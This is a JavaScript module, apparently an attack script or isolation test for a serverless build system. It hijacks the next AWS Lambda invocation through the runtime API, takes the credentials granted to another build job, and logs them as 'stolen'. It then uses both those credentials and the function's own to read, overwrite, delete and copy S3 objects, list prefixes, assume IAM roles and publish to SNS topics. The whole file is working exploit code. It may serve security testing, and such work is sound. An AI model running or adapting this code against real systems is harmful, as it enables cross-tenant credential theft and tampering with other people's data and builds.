import { findRunner } from './find-runner.mjs'

// Takes the next invocation of its sandbox, in the runner's place, and tries what its credentials open; then what the function's own do.
const { env } = findRunner()
const { BUCKET, MODULES, OWN, KEYS, PREFIXES, ROLES, TOPICS } = process.env
const invocation = `http://${env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation`
await fetch(`${invocation}/${process.env.AWS_REQUEST_ID}/response`, { method: 'POST', body: 'null' })
const next = await fetch(`${invocation}/next`)
const { build, job, grants } = JSON.parse((await next.json()).Records[0].Sns.Message)
console.log(`stolen ${build.project} #${build.number} ${build.trust} job ${job.key}`)

const [s3, sns, sts] = await Promise.all(
  ['s3', 'sns', 'sts'].map(name => import(`${MODULES}/@aws-sdk/client-${name}/dist-cjs/index.js`)),
)
const statusOf = sending =>
  sending.then(
    async ({ Body }) => {
      await Body?.transformToByteArray()
      return 200
    },
    error => error.$metadata?.httpStatusCode ?? String(error),
  )

/** `most`: how many of the attempts on each key are made. */
async function tryWith(name, credentials, most) {
  const options = { region: env.AWS_REGION, maxAttempts: 1, credentials }
  const bucket = new s3.S3Client({ ...options, endpoint: env.AWS_ENDPOINT_URL_S3, forcePathStyle: true })
  const topics = new sns.SNSClient({ ...options, endpoint: env.AWS_ENDPOINT_URL_SNS })
  const tokens = new sts.STSClient({ ...options, endpoint: env.AWS_ENDPOINT_URL_STS })
  const send = (command, input) =>
    statusOf(bucket.send(new s3[`${command}Command`]({ Bucket: BUCKET, ...input })))
  const once = { Body: 'mine', IfNoneMatch: '*' }
  // It shows that the credentials work.
  console.log(`${name} own ${await send('PutObject', { Key: OWN, ...once })}`)
  const tried = JSON.parse(KEYS).map(async Key => {
    const CopySource = `${BUCKET}/${encodeURIComponent(Key)}`
    const attempts = [
      ['GetObject', { Key }],
      ['PutObject', { Key, Body: 'mine' }],
      ['DeleteObject', { Key }],
      ['PutObject', { Key, ...once }],
      ['CreateMultipartUpload', { Key }],
      ['CopyObject', { Key, CopySource: `${BUCKET}/${OWN}` }],
      ['CopyObject', { Key: `${OWN}-copy`, CopySource, IfNoneMatch: '*' }],
    ].slice(0, most)
    const statuses = []
    for (const [command, input] of attempts) statuses.push(await send(command, input))
    return `${name} ${Key} ${statuses.join(' ')}`
  })
  for (const line of await Promise.all(tried)) console.log(line)
  for (const Prefix of JSON.parse(PREFIXES))
    console.log(`${name} list ${Prefix} ${await send('ListObjectsV2', { Prefix })}`)
  for (const RoleArn of JSON.parse(ROLES))
    console.log(
      `${name} assume ${RoleArn} ${await statusOf(tokens.send(new sts.AssumeRoleCommand({ RoleArn, RoleSessionName: 'mine' })))}`,
    )
  for (const TopicArn of JSON.parse(TOPICS))
    console.log(
      `${name} publish ${TopicArn} ${await statusOf(topics.send(new sns.PublishCommand({ TopicArn, Message: '{}' })))}`,
    )
}

await tryWith('job', grants.credentials, 7)
const own = {
  accessKeyId: env.AWS_ACCESS_KEY_ID,
  secretAccessKey: env.AWS_SECRET_ACCESS_KEY,
  sessionToken: env.AWS_SESSION_TOKEN,
}
await tryWith('function', own, 3)
